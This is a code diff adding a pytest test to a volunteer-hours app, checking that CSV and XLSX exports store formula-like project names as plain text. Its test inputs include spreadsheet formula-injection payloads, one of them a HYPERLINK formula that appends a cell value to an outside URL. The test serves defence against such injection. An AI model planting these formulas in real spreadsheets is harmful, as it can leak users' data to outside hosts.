@@ -5,6 +5,7 @@ from __future__ import annotations
 import contextlib
 import csv
 import datetime as dt
+import zipfile
 from decimal import Decimal
 from pathlib import Path
 
@@ -35,7 +36,12 @@ from desktop.services.volunteers.kiosk import (
 from desktop.services.volunteers.register import search_volunteers, set_volunteer_status, volunteer_card_text
 from desktop.services.volunteers.roster import ShiftInput, create_shift
 from desktop.services.volunteers.rota_plan import save_rota
-from desktop.services.volunteers.settings import STATION_TZ, set_hours_rounding
+from desktop.services.volunteers.settings import (
+    STATION_TZ,
+    IssuerSettings,
+    set_hours_rounding,
+    set_issuer_settings,
+)
 from tests.unit.volunteers.conftest import ID_A, add_volunteer
 
 DAY = dt.date(2026, 10, 12)
@@ -229,6 +235,21 @@ def test_export_for_the_volunteer_website(coord: ServiceContext, tmp_path: Path)
     assert values[1][0] == "张三丰" and values[1][1] == ID_A and values[1][5] == 2.0
     with pytest.raises(ValidationError):
         export_confirmed_hours(coord, DAY, DAY, tmp_path / "hours.pdf")
+
+
+@pytest.mark.parametrize("project", ['=HYPERLINK("http://x"&B2,"点击")', "+1", "-1", "@SUM(A1)", "\t=1+2", "\r=1+2"])
+def test_hours_export_writes_formula_like_text_as_text(coord: ServiceContext, tmp_path: Path, project: str) -> None:
+    vid = add_volunteer(coord, "张三丰", "13812345678", id_number=ID_A, volunteer_no="31010400000001")
+    confirm_attendance(coord, [_closed_entry(coord, vid, "09:00", "11:00")])
+    set_issuer_settings(coord, IssuerSettings("某街道社工站", "王五", "021-12345678", project))
+    export_confirmed_hours(coord, DAY, DAY, tmp_path / "hours.csv")
+    with (tmp_path / "hours.csv").open(encoding="utf-8-sig") as handle:
+        assert list(csv.reader(handle))[1][3] == "'" + project.strip()
+    export_confirmed_hours(coord, DAY, DAY, tmp_path / "hours.xlsx")
+    cell = load_workbook(tmp_path / "hours.xlsx").active["D2"]
+    assert (cell.value, cell.data_type) == (project.strip(), "s")
+    with zipfile.ZipFile(tmp_path / "hours.xlsx") as book:
+        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
 
 
 @given(st.text(max_size=40))
